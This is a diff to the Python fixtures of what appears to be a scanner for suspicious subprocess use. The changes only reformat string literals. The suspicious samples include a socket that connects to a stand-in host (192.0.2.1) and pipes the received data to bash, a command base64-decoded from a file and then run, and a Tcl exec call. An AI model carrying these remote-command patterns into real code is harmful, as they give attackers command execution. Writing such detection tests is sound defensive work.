@@ -39,32 +39,40 @@ HONEST = {
     "test": (FILES_OF_TESTS, "import subprocess\nHAS = subprocess.run(['acmectl', 'status']).returncode == 0\n"),
     "launches": (
         "run_all.py",
-        "import os, subprocess, sys\n"
-        "for seed in range(3):\n"
-        "    os.system(f'python train.py --seed {seed}')\n"
-        "    subprocess.run([sys.executable, 'eval.py', '--seed', str(seed)])\n"
-        "    os.system('CUDA_VISIBLE_DEVICES=0 python -m acme.main --cfg a.yaml')\n"
-        "os.system('accelerate launch --num_processes 2 train.py; sleep 5')\n"
-        "os.system('bash scripts/evaluate.sh')\n"
-        "os.system('rm -rf outputs build/*.so')\n"
-        "subprocess.call('tensorboard --logdir runs', shell=True)\n"
-        "subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), 'tools', 'make.py')])\n",
+        (
+            "import os, subprocess, sys\n"
+            "for seed in range(3):\n"
+            "    os.system(f'python train.py --seed {seed}')\n"
+            "    subprocess.run([sys.executable, 'eval.py', '--seed', str(seed)])\n"
+            "    os.system('CUDA_VISIBLE_DEVICES=0 python -m acme.main --cfg a.yaml')\n"
+            "os.system('accelerate launch --num_processes 2 train.py; sleep 5')\n"
+            "os.system('bash scripts/evaluate.sh')\n"
+            "os.system('rm -rf outputs build/*.so')\n"
+            "subprocess.call('tensorboard --logdir runs', shell=True)\n"
+            "subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), 'tools', 'make.py')])\n"
+        ),
     ),
     "documentation": (
         "docs/conf.py",
-        "import subprocess\nsubprocess.call('doxygen Doxyfile.in', shell=True)\n"
-        "subprocess.run(['sphinx-apidoc', '-o', 'api', '../src'])\n",
+        (
+            "import subprocess\nsubprocess.call('doxygen Doxyfile.in', shell=True)\n"
+            "subprocess.run(['sphinx-apidoc', '-o', 'api', '../src'])\n"
+        ),
     ),
     "versions_asked": (
         "wrapper.py",
-        "import os, subprocess\nV = subprocess.getoutput('espeak-ng --version')\n"
-        "N = subprocess.check_output([os.path.join(os.environ['CUDA_HOME'], 'bin', 'nvcc'), '-V'])\n",
+        (
+            "import os, subprocess\nV = subprocess.getoutput('espeak-ng --version')\n"
+            "N = subprocess.check_output([os.path.join(os.environ['CUDA_HOME'], 'bin', 'nvcc'), '-V'])\n"
+        ),
     ),
     "split_command": (
         "app.py",
-        "import os, shlex, subprocess\n"
-        "subprocess.run(shlex.split('pip install acme-attn --no-build-isolation'), env=os.environ | {'A': '1'})\n"
-        "H = subprocess.check_output(shlex.split('bash -c \"git rev-parse --short HEAD\"'))\n",
+        (
+            "import os, shlex, subprocess\n"
+            "subprocess.run(shlex.split('pip install acme-attn --no-build-isolation'), env=os.environ | {'A': '1'})\n"
+            "H = subprocess.check_output(shlex.split('bash -c \"git rev-parse --short HEAD\"'))\n"
+        ),
     ),
     "passed_on": (
         "wrap.py",
@@ -77,15 +85,20 @@ HONEST = {
     "version_of_tcl": ("gui.py", "import tkinter\nVERSION = tkinter.Tcl().eval('info patchlevel')\n"),
     "shell_asked": (
         "builder.py",
-        "import socket, subprocess\n"
-        "def rank():\n    socket.create_connection(('localhost', 1))\n"
-        "def exists(name):\n    return subprocess.Popen(['bash', '-c', f'type {name}']).wait() == 0\n"
-        "def connect():\n    s = socket.socket()\n    s.connect(('localhost', 1))\n",
+        (
+            "import socket, subprocess\n"
+            "def rank():\n    socket.create_connection(('localhost', 1))\n"
+            "def exists(name):\n    return subprocess.Popen(['bash', '-c', f'type {name}']).wait() == 0\n"
+            "def connect():\n    s = socket.socket()\n    s.connect(('localhost', 1))\n"
+        ),
     ),
     "copies_in_function": (
         "model_export.py",
-        "import os\ndef export(source, target):\n    os.system(f'cp -rf {source}/generation_config.json *.py {target}')\n"
-        "def probe(program):\n    import subprocess\n    return subprocess.run([program, '-version'])\n",
+        (
+            "import os\ndef export(source, target):\n"
+            "    os.system(f'cp -rf {source}/generation_config.json *.py {target}')\n"
+            "def probe(program):\n    import subprocess\n    return subprocess.run([program, '-version'])\n"
+        ),
     ),
 }
 ALIKE = {
@@ -116,8 +129,10 @@ ALIKE = {
     ),
     "decoded_or_passed_on": (
         "wrap.py",
-        "import base64, subprocess, sys\n"
-        "COMMAND = sys.argv[1:] or base64.b64decode(open('a.dat').read()).split()\nsubprocess.run(COMMAND)\n",
+        (
+            "import base64, subprocess, sys\n"
+            "COMMAND = sys.argv[1:] or base64.b64decode(open('a.dat').read()).split()\nsubprocess.run(COMMAND)\n"
+        ),
         Verdict.REVIEW,
     ),
     "installs_from_a_forge": (
@@ -139,9 +154,11 @@ ALIKE = {
     "command_of_tcl": ("gui.py", "import tkinter\ntkinter.Tcl().eval('exec touch modelsweep-test')\n", Verdict.REVIEW),
     "commands_of_a_socket": (
         "builder.py",
-        "import socket, subprocess\n"
-        "def run():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 1))\n"
-        "    subprocess.Popen(['bash', '-c', s.recv(99).decode()])\n",
+        (
+            "import socket, subprocess\n"
+            "def run():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 1))\n"
+            "    subprocess.Popen(['bash', '-c', s.recv(99).decode()])\n"
+        ),
         Verdict.REVIEW,
     ),
 }
